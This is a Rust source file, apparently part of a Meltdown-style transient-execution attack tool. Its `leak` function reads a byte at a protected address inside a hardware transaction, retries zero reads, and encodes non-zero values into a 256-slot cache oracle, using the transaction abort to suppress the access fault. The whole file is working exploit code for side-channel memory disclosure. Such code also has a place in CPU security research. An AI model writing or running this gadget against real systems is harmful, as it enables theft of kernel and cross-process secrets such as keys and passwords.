use serde::Serialize;

use crate::oracle::OracleBuffer;
use crate::primitives::CachePrimitives;
use crate::target::TargetAddress;

/// What the software side of one gadget invocation could observe.
///
/// None of the variants says whether the byte was leaked: on a protected address the
/// encoding access happens transiently and the transaction then aborts, so
/// [`LeakSignal::Aborted`] is the *expected* outcome of a successful attack round.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub enum LeakSignal {
    /// The transaction committed after touching the oracle slot of a non-zero byte.
    Committed,
    /// The transaction could not be started or was rolled back.
    Aborted,
    /// The transaction committed, but the target kept reading as zero until the retry
    /// budget ran out. Nothing was encoded.
    ZeroExhausted,
}

/// Transiently reads the byte at `target` and encodes it into the oracle.
///
/// Inside a hardware transaction the target byte is read; a zero value is re-read up
/// to `zero_retries` times (forever for `None`), since a transient read that was cut
/// short also yields zero. A non-zero byte `b` is then encoded by loading slot `b` of
/// the oracle, which is the only lasting effect of this function. The fault that the
/// read raises on a protected address is discarded by the transaction abort together
/// with every other architectural effect, so it never reaches the caller.
///
/// A genuine zero byte cannot be told apart from an aborted read and is never encoded.
#[inline(always)]
pub fn leak<P: CachePrimitives + ?Sized>(
    primitives: &P,
    target: TargetAddress,
    oracle: &OracleBuffer,
    zero_retries: Option<u32>,
) -> LeakSignal {
    // SAFETY: every `true` from begin_transaction is matched by end_transaction below,
    // and load_byte is only called while the transaction is open.
    if !unsafe { primitives.begin_transaction() } {
        primitives.fence();
        return LeakSignal::Aborted;
    }
    let mut retries = 0u32;
    let value = loop {
        let value = unsafe { primitives.load_byte(target.as_ptr()) };
        if value != 0 {
            break Some(value);
        }
        match zero_retries {
            Some(limit) if retries >= limit => break None,
            _ => retries = retries.wrapping_add(1),
        }
    };
    if let Some(value) = value {
        // SAFETY: a byte value always indexes one of the 256 oracle slots.
        unsafe { primitives.touch(oracle.slot(value as usize)) };
    }
    unsafe { primitives.end_transaction() };
    match value {
        Some(_) => LeakSignal::Committed,
        None => LeakSignal::ZeroExhausted,
    }
}
